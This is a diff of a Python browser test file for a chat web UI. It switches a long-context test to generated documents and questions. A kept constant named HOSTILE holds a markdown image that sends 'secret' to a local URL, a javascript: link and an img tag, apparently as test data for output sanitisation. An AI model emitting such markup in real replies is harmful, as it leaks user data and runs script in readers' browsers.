@@ -10,15 +10,11 @@ import pytest
 from tests.browser.chromium import chromium_page
 from tests.browser.document_list import LIST, exact_prompt, press, row, titles, upload, wait_for_titles
 from tests.browser.test_webui_documents import add, click, open_page, panel, says_the_chat, send, settled
+from tests.browser.test_workbench_documents import question_over_documents
 
 pytestmark = [pytest.mark.browser, pytest.mark.host, pytest.mark.slow]
 SETTINGS = "mode: instruct\nmax_new_tokens: 32\n"
 HARBOR, QUESTION = "The color of the harbor is teal.", "What is the color of the harbor?"
-#: Longer than the window of the shipped model together, and each with one fact.
-LONG = [
-    (name, f"The color of the {name} is {color}.\n\n" + "\n\n".join([f"Nobody asks about the {name} here."] * 45))
-    for name, color in (("harbor", "teal"), ("tower", "red"))
-]
 HOSTILE = "Done. ![x](http://127.0.0.1:9/leak.png?d=secret) [y](javascript:alert(1)) <img src=http://127.0.0.1:9/z.png>"
 
 
@@ -103,21 +99,23 @@ def test_three_files_a_question_the_answer_and_the_document_that_carries_it(page
     ],
 )
 def test_what_does_not_fit_is_left_out_as_chosen_and_said(page, choice, said):
-    for name, text in LONG:
-        upload(page, (f"{name}.txt", text))
-        row(page, name).wait_for()
+    question = question_over_documents(503, 1500)  # half as much again as the window
+    for number, document in enumerate(question.documents):
+        upload(page, (f"part {number}.txt", document.text))
+        row(page, f"part {number}").wait_for()
+    click(page, panel(page).get_by_label("Answer from these documents only"))
     click(page, page.locator("#airoboros-longctx-too-long").get_by_text(choice, exact=True))
     page.wait_for_timeout(1500)
     box = page.locator("#chat-input textarea, #main textarea").first
-    box.fill(QUESTION)
+    box.fill(question.instruction)
     click(page, panel(page).get_by_role("button", name="Show the exact prompt"))
-    prompt = exact_prompt(page, QUESTION)
-    assert HARBOR in prompt
+    prompt = exact_prompt(page, question.instruction)
+    assert question.value in prompt
     assert prompt.count("BEGININPUT") == prompt.count("ENDINPUT") > 0
     page.locator("#airoboros-longctx-budget", has_text=re.compile("tokens too many")).wait_for()
     assert said in page.locator("#airoboros-longctx-budget").first.inner_text()
-    send(page, QUESTION)
-    assert "teal" in settled(page)
+    send(page, question.instruction)
+    assert question.value in settled(page)
 
 
 def test_an_attached_file_is_a_document_of_the_chat(page, server):
